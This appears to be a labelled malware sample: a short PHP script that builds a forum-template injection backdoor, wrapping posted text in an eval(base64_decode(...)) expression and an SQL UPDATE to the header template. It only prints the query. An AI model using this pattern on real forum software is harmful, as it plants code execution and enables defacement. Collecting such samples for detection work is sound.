<?php
// Family: backdoor/template-injection
// Style: defacement kit's "indexer" for forum software: writes a template that runs code when the forum evaluates it
// Trait: the posted page text is wrapped as "{${eval(base64_decode('...'))}}" and stored in the template table (here only built and printed)
$page = isset($_POST['index']) ? $_POST['index'] : 'hello';
$set = "{\${eval(base64_decode('" . base64_encode("echo \"$page\";") . "'))}}{\${exit()}}";
$sql = "UPDATE template SET template='" . addslashes($set) . "' WHERE title='header'";
echo htmlspecialchars($sql);
